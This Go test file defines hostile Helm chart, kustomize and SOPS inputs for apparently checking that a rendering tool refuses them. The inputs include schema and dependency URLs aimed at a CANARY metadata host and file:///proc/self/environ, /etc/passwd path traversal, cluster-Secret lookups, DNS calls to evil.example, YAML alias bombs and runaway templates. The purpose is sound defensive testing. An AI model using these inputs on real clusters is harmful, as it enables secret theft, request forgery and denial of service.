package agent_test

import "strings"

// chart is a Helm chart, and files in it by name and content.
func chart(beside ...string) tree {
	files := tree{"evil/Chart.yaml": "apiVersion: v2\nname: evil\nversion: 1.0.0\n", "evil/templates/one.yaml": oneMap}
	for i := 0; i+1 < len(beside); i += 2 {
		files["evil/"+beside[i]] = beside[i+1]
	}
	return files
}

// inflates is a kustomization that inflates a chart of its own repository.
func inflates(kustomization string) tree {
	files := evil(kustomization)
	for p, c := range chart() {
		files["evil/charts/"+p] = c
	}
	return files
}

// What a chart can be made to ask for, and how it can grow.
var helmAttacks = []attack{
	{name: "a chart's schema at an address", files: chart("values.schema.json", `{"properties":{"a":{"$ref":"http://CANARY/latest/meta-data"}}}`), says: []string{"outside the file are refused"}},
	{name: "a chart's schema in a language of its own", files: chart("values.schema.json", `{"$schema":"http://CANARY/draft"}`), says: []string{"outside the file are refused"}},
	{name: "a chart's schema in a file of the machine", files: chart("values.schema.json", `{"$ref":"file:///proc/self/environ"}`), says: []string{"outside the file are refused"}},
	{name: "a chart that depends on an address", files: chart("Chart.yaml", "apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies: [{name: sub, version: 1.0.0, repository: 'http://CANARY/charts'}]\n"), says: []string{"sub"}},
	{name: "a chart that depends on a directory of the machine", files: chart("Chart.yaml", "apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies: [{name: sub, version: 1.0.0, repository: 'file:///etc'}]\n"), says: []string{"sub"}},
	{name: "a chart that asks a name server", works: true, files: chart("templates/one.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: one}\ndata: {a: {{ getHostByName \"evil.example\" | quote }}}\n")},
	{name: "a chart that asks the cluster", works: true, files: chart("templates/one.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: one}\ndata: {a: {{ lookup \"v1\" \"Secret\" \"\" \"\" | toJson | quote }}}\n")},
	{name: "a chart that asks for the environment", files: chart("templates/one.yaml", "a: {{ expandenv \"$HOME\" }}\n"), says: []string{"expandenv"}},
	{name: "a chart that includes itself", files: chart("templates/one.yaml", `{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}`), says: []string{"evil/templates/one.yaml"}},
	{name: "a chart that writes without end", files: chart("templates/one.yaml", `{{ range until 100000 }}{{ range until 100000 }}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{{ end }}{{ end }}`)},
	{name: "a chart that repeats without end", files: chart("templates/one.yaml", `{{ repeat 2000000000 "xxxx" }}`)},
	{name: "a chart that draws lots", files: chart("templates/one.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: one}\ndata: {a: {{ randAlphaNum 32 }}}\n"), says: []string{"ConfigMap one"}},
	{name: "a chart that makes a certificate with each look", files: chart("templates/one.yaml", "{{ $ca := genCA \"x\" 365 }}apiVersion: v1\nkind: ConfigMap\nmetadata: {name: one}\ndata: {a: {{ $ca.Cert | b64enc }}}\n"), says: []string{"ConfigMap one"}},
	{name: "a chart whose files are a link out", files: chart("files/x", linkTo+"../../../../etc/passwd"), says: []string{"leaves the repository"}},
	{name: "a chart that is in itself", files: chart("charts/evil", linkTo+".."), says: []string{"deep"}},
	{name: "aliases of aliases in a chart's values", files: chart("values.yaml", bomb(9, 10)), says: []string{"aliases"}},
	{name: "a packed chart that is none", files: chart("charts/sub-1.0.0.tgz", strings.Repeat("\x1f\x8b", 1000)), says: []string{"evil/charts/sub-1.0.0.tgz"}},
	{name: "a chart at an address, inflated by kustomize", files: evil("helmCharts: [{name: x, repo: 'http://CANARY/charts', version: 1.0.0, releaseName: x}]\n"), says: []string{"not fetched"}},
	{name: "a chart in a registry, inflated by kustomize", files: evil("helmCharts: [{name: x, repo: 'oci://CANARY/charts', version: 1.0.0, releaseName: x}]\n"), says: []string{"not fetched"}},
	{name: "charts that lie outside", files: inflates("helmGlobals: {chartHome: ../../../etc}\nhelmCharts: [{name: evil, releaseName: x}]\n"), says: []string{"leaves the repository"}},
	{name: "values of a chart that lie outside", files: inflates("helmCharts: [{name: evil, releaseName: x, valuesFile: ../../../etc/passwd}]\n"), says: []string{"leaves the repository"}},
	{name: "values of a chart at an address", files: inflates("helmCharts: [{name: evil, releaseName: x, valuesFile: 'http://CANARY/values.yaml'}]\n"), says: []string{"evil"}},
	{name: "the generator that runs Helm's program", files: evil("generators:\n- |-\n  apiVersion: builtin\n  kind: HelmChartInflationGenerator\n  metadata: {name: x}\n  name: x\n"), says: []string{"evil/kustomization.yaml"}},
	{name: "a chart's name that climbs", files: chart("Chart.yaml", "apiVersion: v2\nname: ../../x\nversion: 1.0.0\n")},
}

// sealed is a file that SOPS encrypted, for the key that is named.
func sealed(key string) string {
	return "apiVersion: v1\nkind: Secret\nmetadata: {name: s}\nstringData:\n  password: ENC[AES256_GCM,data:" + strings.Repeat("QUJD", 8) + ",iv:" + strings.Repeat("QUJD", 8) + ",tag:QUJDREVGR0hJSktMTU5PUA==,type:str]\n" +
		"sops:\n  " + key + "\n  lastmodified: '2026-01-01T00:00:00Z'\n  mac: ENC[AES256_GCM,data:QUJD,iv:QUJD,tag:QUJDREVGR0hJSktMTU5PUA==,type:str]\n  version: 3.9.0\n"
}

// What is encrypted and must not be taken for what it says.
var sealedAttacks = []attack{
	{name: "an encrypted file in an app without keys", files: evil("resources: [s.yaml]\n", "s.yaml", sealed("age: [{recipient: age1x, enc: x}]")), says: []string{"evil/s.yaml"}},
	{name: "an encrypted file whose key is at an address", files: evil("resources: [s.yaml]\n", "s.yaml", sealed("hc_vault: [{vault_address: 'http://CANARY', engine_path: transit, key_name: k, enc: x}]")), says: []string{"evil/s.yaml"}},
	{name: "an encrypted file with keys without end", files: evil("resources: [s.yaml]\n", "s.yaml", sealed("age: ["+strings.Repeat("{recipient: age1x, enc: x}, ", 50_000)+"]")), says: []string{"evil/s.yaml"}},
}
